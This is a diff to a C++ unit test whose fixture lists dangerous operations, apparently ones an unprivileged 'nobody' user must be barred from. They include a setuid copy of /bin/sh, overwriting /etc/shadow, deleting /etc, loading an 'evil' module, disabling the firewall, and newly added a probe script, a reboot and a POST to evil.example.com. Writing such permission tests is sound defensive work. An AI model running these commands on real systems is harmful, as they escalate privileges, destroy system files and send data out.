@@ -103,6 +103,8 @@ void each_edit(Json& place, const std::function<void()>& with) {
 std::vector<Operation> nobodys() {
   Run run;
   run.script = "cp /bin/sh /tmp/sh; chmod 4755 /tmp/sh";
+  Wait wait;
+  wait.probe.script = "id >/tmp/x";
   return {run,
           WriteFile{"/etc/shadow", digest("x"), {}, false, false, ""},
           Remove{"/etc", true, false},
@@ -116,7 +118,10 @@ std::vector<Operation> nobodys() {
           ChangeMount{"mount", "/etc", "/tmp/etc", "", "bind"},
           ChangeSwap{"make", "/etc/shadow", 1},
           ChangeModule{"load", "evil", {}},
-          ChangeFirewall{"ufw", "set", {}, {}, {}, false, {{"enabled", "no"}}, {{"enabled", "yes"}}}};
+          ChangeFirewall{"ufw", "set", {}, {}, {}, false, {{"enabled", "no"}}, {{"enabled", "yes"}}},
+          wait,
+          Reboot{},
+          Call{.url = "https://evil.example.com/", .method = "POST", .body = "x"}};
 }
 
 class EditedPlans : public ::testing::Test {
